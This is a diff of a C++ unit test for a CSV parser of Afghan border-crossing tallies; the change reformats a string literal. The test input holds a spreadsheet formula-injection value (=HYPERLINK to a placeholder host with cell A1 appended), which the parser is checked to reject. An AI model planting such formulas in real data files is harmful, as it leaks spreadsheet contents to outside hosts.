@@ -143,12 +143,11 @@ TEST(TallyCsv, MangledInputNeverCrashes) {
 // Defect G: a destination that is not a province of Afghanistan (a formula,
 // a typo) is refused naming its row; spellings are stored canonical.
 TEST(TallyCsv, DestinationMustBeAKnownAfghanProvince) {
-  const std::string csv =
-      kHeader +
-      "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,"
-      "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n"
-      "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Punjab\n"
-      "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,nangrahar\n";
+  const std::string csv = kHeader +
+                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,"
+                          "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n"
+                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Punjab\n"
+                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,nangrahar\n";
   const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
   ASSERT_EQ(parsed.errors.size(), 2u);
   EXPECT_EQ(parsed.errors[0].line, 2);
